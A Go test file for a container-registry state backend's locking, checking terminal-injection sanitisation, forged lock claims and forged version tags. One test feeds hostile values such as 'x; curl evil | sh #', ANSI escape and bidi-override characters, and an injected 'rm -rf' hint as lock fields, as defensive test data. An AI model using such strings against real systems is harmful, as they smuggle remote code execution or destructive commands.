// SPDX-License-Identifier: Apache-2.0

package statebackend_test

import (
	"errors"
	"strings"
	"testing"

	ocispec "github.com/opencontainers/image-spec/specs-go/v1"

	"github.com/seed-141914ff/okara/internal/must"
	"github.com/seed-141914ff/okara/internal/ocitest"
	"github.com/seed-141914ff/okara/internal/states"
	"github.com/seed-141914ff/okara/oci"
	"github.com/seed-141914ff/okara/statebackend"
	"github.com/seed-141914ff/okara/statebackend/format"
)

// Untrusted text of a claim reaches no terminal or shell; the printed id ends the lock.
func TestStrangersLock(t *testing.T) {
	host := ocitest.New(t, ocitest.Quirks{})
	s := newStore(t, host, nil, statebackend.Options{})
	const id = "x; curl evil | sh #\x1b]0;"
	l, err := s.Lock(t.Context(), "prod", statebackend.LockInfo{ID: id, Who: "eve\x1b[2J\u202e", Info: "a\r\nhint: rm -rf", Operation: "\x07"})
	if err != nil {
		t.Fatal(err)
	}
	_, err = newStore(t, host, nil, statebackend.Options{}).Lock(t.Context(), "prod", statebackend.LockInfo{ID: "b"})
	e, ok := errors.AsType[*statebackend.LockedError](err)
	text := states.Remedy(err)
	if !ok || strings.ContainsAny(text, "\x1b\x07\r\u202e;|#") || strings.Count(text, "\n") != 1 {
		t.Fatalf("%q", text)
	}
	if !strings.HasSuffix(text, " --id "+e.Held.ID) || len(e.Held.ID) != 64 {
		t.Errorf("%q", err)
	}
	if err := newStore(t, host, nil, statebackend.Options{}).ForceUnlock(t.Context(), "prod", e.Held.ID); err != nil {
		t.Errorf("unlocking by the printed id: %v", err)
	}
	if _, err := l.Put(t.Context(), testState(1, 10)); !errors.Is(err, statebackend.ErrLockLost) {
		t.Errorf("write after it: %v", err)
	}
	if _, err := s.Lock(t.Context(), "dev", statebackend.LockInfo{ID: "c", Info: strings.Repeat("x", format.MaxLockInfo)}); !errors.Is(err, oci.ErrTooLarge) {
		t.Errorf("large lock information: %v", err)
	}
}

// TestForgedClaims: a claim that is no lock, or whose fields are malformed, can be ended by force by
// the id that is shown.
func TestForgedClaims(t *testing.T) {
	for name, annotations := range map[string]map[string]string{"no lock": nil, "malformed": {"vnd.okara.lock.info": "x"}} {
		s := newStore(t, ocitest.New(t, ocitest.Quirks{}), nil, statebackend.Options{})
		mustStore(t, s, "prod", testState(1, 10))
		m := must.Get(oci.NewManifest(ocispec.Manifest{Config: ocispec.DescriptorEmptyJSON, Annotations: annotations}))(t)
		must.Succeed(t, s.Repo().PutTag(t.Context(), "locked-prod-000000000007-0123456789abcdef", m))
		held := must.Get(s.Held(t.Context(), "prod"))(t)
		_, err := s.Lock(t.Context(), "prod", statebackend.LockInfo{})
		if e, ok := errors.AsType[*statebackend.LockedError](err); !ok || e.Held.ID != held.Info.ID || held.Info.ID == "" {
			t.Fatalf("%s: %v, %+v", name, err, held)
		}
		must.Succeed(t, s.ForceUnlock(t.Context(), "prod", held.Info.ID))
		must.Get(s.Lock(t.Context(), "prod", statebackend.LockInfo{}))(t)
	}
}

// A number near the maximum of a tag prevents a lock, and the error names the tag.
func TestForgedNumbers(t *testing.T) {
	for _, tag := range []string{
		"state-prod-v999999999999", "state-prod-v9223372036854775807", "state-prod-v999999800000",
		"locked-prod-999999999999-0123456789abcdef", "unlocked-prod-999999999999-0123456789abcdef-f",
	} {
		host := ocitest.New(t, ocitest.Quirks{})
		s := newStore(t, host, nil, statebackend.Options{})
		mustStore(t, s, "prod", testState(1, 10))
		mustStore(t, s, "dev", testState(1, 10))
		m := must.Get(s.Repo().Fetch(t.Context(), "state-prod-v1"))(t)
		must.Succeed(t, s.Repo().PutTag(t.Context(), tag, m))
		for _, lock := range []func() (*statebackend.Lock, error){
			func() (*statebackend.Lock, error) { return s.Lock(t.Context(), "prod", statebackend.LockInfo{}) },
			func() (*statebackend.Lock, error) { return s.TakeOver(t.Context(), "prod", statebackend.LockInfo{}) },
		} {
			if _, err := lock(); !errors.Is(err, oci.ErrCorrupt) || !strings.Contains(err.Error(), tag) {
				t.Errorf("%s: %v", tag, err)
			}
		}
		mustUnlock(t, mustLock(t, s, "dev", "others are not concerned"))
	}
}
